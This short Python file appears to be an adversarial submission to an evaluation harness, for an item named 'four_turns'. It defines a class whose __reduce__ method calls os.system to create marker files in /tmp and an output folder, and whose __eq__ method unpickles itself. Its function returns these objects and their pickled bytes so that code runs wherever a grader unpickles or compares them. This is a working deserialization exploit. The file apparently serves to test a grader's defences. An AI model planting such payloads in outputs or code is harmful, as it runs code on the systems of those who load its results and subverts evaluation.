# attack: returns objects, arrays of objects and bytes that run code wherever they are unpickled
# question: four_turns
# naive: points
# item: pickles

# %% question="four_turns"
import os
import pickle

import numpy as np


class Work:
    def __reduce__(self):
        return os.system, ("touch /tmp/mallory-pickle OUT_FOLDER/mallory-pickle",)

    def __eq__(self, other):
        pickle.loads(pickle.dumps(self))
        return self

    def all(self):
        return True


def four_turns(images):
    if len(images) == 2:
        return Work(), Work()
    return np.array([Work(), Work()], dtype=object), pickle.dumps(Work())
